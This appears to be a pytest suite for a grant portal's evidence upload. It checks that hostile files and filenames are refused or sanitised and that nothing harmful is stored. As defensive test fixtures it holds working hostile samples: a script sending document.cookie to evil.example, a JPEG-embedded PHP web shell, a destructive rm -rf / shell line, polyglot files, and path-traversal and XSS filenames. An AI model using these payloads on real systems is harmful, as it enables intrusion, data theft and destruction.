"""Hostile uploads through the real page: refused with a clear message, nothing stored.

Unit tests of the sniffer are in tests/storage/test_sniff.py; this posts each
file as an applicant would and then checks both the database (no Evidence
row) and the storage folder (no object, no temporary file).
"""

from __future__ import annotations

import gc
import io
import warnings
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from portal.models.applications import Application, Evidence
from portal.models.users import User
from tests.factories import make_application, make_organisation, make_round
from tests.fixtures.databases import reread
from tests.fixtures.pages import page_text
from tests.storage.sample_files import make_big_png, make_docx, make_jpeg, make_pdf, make_zip

NOT_ACCEPTED = "This type of file is not accepted"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>document.location='//evil.example/'+document.cookie</script></body></html>"
# A GIF that is also JavaScript (GIFAR-style): not an accepted type whatever it claims.
GIF_SCRIPT = b"GIF89a/*\x01\x00\x01\x00\x00\xff\x00,*/=1;alert(document.domain)//" + bytes(64)
# Script first, then a PDF: a browser sniffing it would see HTML.
HTML_THEN_PDF = b"<html><script>alert(1)</script></html>\n" + make_pdf()
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(256)
WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(256)
SHELL = b"#!/bin/sh\nrm -rf / --no-preserve-root\n"
ZIP = make_zip([("a.pdf", make_pdf())])
# Real magic first, markup after it: a PDF or photo that is also a web page or server script.
PDF_THEN_HTML = make_pdf().replace(b"%PDF-1.4\n", b"%PDF-1.4\n%<html><script>alert(document.cookie)</script>\n", 1)
JPEG_THEN_SCRIPT = make_jpeg(comment=b"<script>alert(document.domain)</script>")
JPEG_THEN_PHP = make_jpeg(comment=b"<?php system($_GET['c']); ?>")
POLYGLOT = "web page or script code hidden inside it"
MACRO_DOCX = make_docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro"))


@pytest.fixture
def draft(session: Session, member: User) -> Application:
    application = make_application(
        session, grant_round=make_round(session), organisation=make_organisation(session, members=(member,))
    )
    session.commit()
    return application


@pytest.fixture
def signed_in_user(member: User) -> User:
    return member


def upload(client: FlaskClient, application: Application, content: bytes, filename: str, kind: str) -> Any:
    return client.post(
        f"/applications/{application.id}/evidence",
        data={"kind": kind, "file": (io.BytesIO(content), filename)},
        content_type="multipart/form-data",
    )


def stored_files(app: Flask) -> list[Path]:
    root = Path(app.config["STORAGE_URL"].removeprefix("file://"))
    return [path for path in root.rglob("*") if path.is_file()] if root.exists() else []


def evidence_rows(session: Session) -> int:
    reread(session)
    return session.scalar(select(func.count(Evidence.id))) or 0


@pytest.mark.parametrize(
    ("content", "filename", "kind", "message"),
    [
        pytest.param(SVG, "logo.svg", "photo", NOT_ACCEPTED, id="svg-with-script"),
        pytest.param(SVG, "logo.jpg", "photo", NOT_ACCEPTED, id="svg-renamed-jpg"),
        pytest.param(HTML, "constitution.pdf", "governing_document", NOT_ACCEPTED, id="html-renamed-pdf"),
        pytest.param(HTML_THEN_PDF, "accounts.pdf", "governing_document", NOT_ACCEPTED, id="html-pdf-polyglot"),
        pytest.param(GIF_SCRIPT, "photo.jpg", "photo", NOT_ACCEPTED, id="gif-javascript-polyglot"),
        pytest.param(ELF, "photo.jpg", "photo", NOT_ACCEPTED, id="linux-program-renamed-jpg"),
        pytest.param(WINDOWS_EXE, "statement.pdf", "bank_statement", NOT_ACCEPTED, id="windows-program-renamed-pdf"),
        pytest.param(SHELL, "rules.pdf", "governing_document", NOT_ACCEPTED, id="script-renamed-pdf"),
        pytest.param(PDF_THEN_HTML, "minutes.html", "governing_document", POLYGLOT, id="pdf-then-html"),
        pytest.param(JPEG_THEN_SCRIPT, "photo.jpg", "photo", POLYGLOT, id="jpeg-then-script"),
        pytest.param(JPEG_THEN_PHP, "shell.php.jpg", "photo", POLYGLOT, id="jpeg-then-php"),
        pytest.param(ZIP, "all.pdf", "governing_document", "ZIP files are not accepted", id="zip"),
        pytest.param(MACRO_DOCX, "rules.docx", "governing_document", "macros are not accepted", id="docx-with-macros"),
        pytest.param(make_pdf()[:-40], "cut-short.pdf", "governing_document", "incomplete", id="truncated-pdf"),
        pytest.param(make_pdf(), "notes.pdf", "photo", "Photos must be JPG, PNG or HEIC", id="pdf-as-photo"),
    ],
)
def test_hostile_files_are_refused_and_nothing_is_stored(
    app: Flask,
    signed_in: FlaskClient,
    session: Session,
    draft: Application,
    content: bytes,
    filename: str,
    kind: str,
    message: str,
) -> None:
    response = upload(signed_in, draft, content, filename, kind)
    assert response.status_code in (400, 409)
    assert message in page_text(response)
    assert evidence_rows(session) == 0
    assert stored_files(app) == []


@pytest.mark.parametrize(
    "filename",
    [
        "../../../../etc/passwd.pdf",
        "..\\..\\windows\\system32\\config.pdf",
        "/absolute/path/constitution.pdf",
        "constitution.pdf\x00.exe",
        "ملف النظام الأساسي للمجموعة " * 20 + ".pdf",
        "\u202ecod.pdf",
        "<script>alert(1)</script>.pdf",
    ],
)
def test_hostile_names_never_reach_the_storage_path_or_the_page_raw(
    app: Flask, signed_in: FlaskClient, session: Session, draft: Application, filename: str
) -> None:
    response = upload(signed_in, draft, make_pdf(), filename, "governing_document")
    # The name is only ever shown, cleaned; the file is kept under a random key.
    assert response.status_code == 302
    item = session.scalars(select(Evidence)).one()
    root = Path(app.config["STORAGE_URL"].removeprefix("file://")).resolve()
    (stored,) = stored_files(app)
    assert stored.resolve().is_relative_to(root)
    assert stored.read_bytes() == make_pdf()
    for part in ("..", "passwd", "system32", "absolute", "script", "\u202e"):
        assert part not in item.storage_key
    assert not {"/", "\\", "\x00"} & set(item.original_filename)
    assert len(item.original_filename) <= 255
    assert "<script>" not in signed_in.get(f"/applications/{draft.id}/evidence").get_data(as_text=True)


@pytest.mark.parametrize(
    ("content", "filename", "kind", "shown", "saved_as"),
    [
        pytest.param(make_pdf(), "statement.bat", "bank_statement", "statement.bat", "statement.pdf", id="bat"),
        pytest.param(make_pdf(), "invoice.hta", "other", "invoice.hta", "invoice.pdf", id="hta"),
        pytest.param(make_pdf(), "minutes.html", "governing_document", "minutes.html", "minutes.pdf", id="html"),
        pytest.param(make_jpeg(), "photo\u202egpj.exe", "photo", "photogpj.exe", "photogpj.jpg", id="rtl-override"),
        pytest.param(
            make_pdf(),
            "<img src=x onerror=alert(1)>.cmd",
            "other",
            "&lt;img src=x onerror=alert(1)&gt;.cmd",
            "_img src=x onerror=alert(1)_.pdf",
            id="markup",
        ),
    ],
)
def test_a_download_is_saved_under_its_detected_type_whatever_it_was_called(
    signed_in: FlaskClient,
    session: Session,
    draft: Application,
    content: bytes,
    filename: str,
    kind: str,
    shown: str,
    saved_as: str,
) -> None:
    assert upload(signed_in, draft, content, filename, kind).status_code == 302
    item = session.scalars(select(Evidence)).one()

    # The uploader's name is shown (escaped, without invisible characters) ...
    page = signed_in.get(f"/applications/{draft.id}/evidence").get_data(as_text=True)
    assert shown in page
    assert "\u202e" not in page
    assert "<img src=x" not in page
    # ... but the file is only ever saved with the extension of what it really is.
    download = signed_in.get(f"/evidence/{item.id}")
    assert download.status_code == 200
    assert download.headers["Content-Disposition"].startswith("attachment;")
    assert saved_as in download.headers["Content-Disposition"]
    assert download.mimetype == item.content_type
    assert download.get_data() == content
    download.close()


@pytest.mark.parametrize("config_overrides", [{"MAX_UPLOAD_MB": 1, "MAX_CONTENT_LENGTH": 2 * 1024 * 1024}])
def test_a_body_over_the_request_limit_is_refused_in_words_and_nothing_is_stored(
    app: Flask, signed_in: FlaskClient, session: Session, draft: Application
) -> None:
    # Past MAX_CONTENT_LENGTH (the limit plus 1 MB for the form): refused before the view runs.
    huge = make_jpeg() + bytes(3 * 1024 * 1024)
    response = upload(signed_in, draft, huge, "huge.jpg", "photo")
    assert response.status_code == 413, page_text(response)
    assert "smaller than 1 MB" in page_text(response)
    assert evidence_rows(session) == 0
    assert stored_files(app) == []
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", ResourceWarning)
        del response
        gc.collect()


def test_a_decompression_bomb_photo_is_kept_without_a_preview(
    app: Flask, signed_in: FlaskClient, session: Session, draft: Application
) -> None:
    # 49 megapixels of one colour in a few hundred kilobytes: decoding it whole took
    # seconds and 700 MB. It is a photo like any other, so it is kept; it has no preview.
    bomb = make_big_png(8_100, 6_050)
    response = upload(signed_in, draft, bomb, "garden.png", "photo")
    assert response.status_code == 302
    item = session.scalars(select(Evidence)).one()
    assert item.thumbnail_key is None
    assert [path.read_bytes() for path in stored_files(app)] == [bomb]
    page = signed_in.get(f"/applications/{draft.id}/evidence").get_data(as_text=True)
    assert "garden.png" in page
    assert "Preview of garden.png" not in page
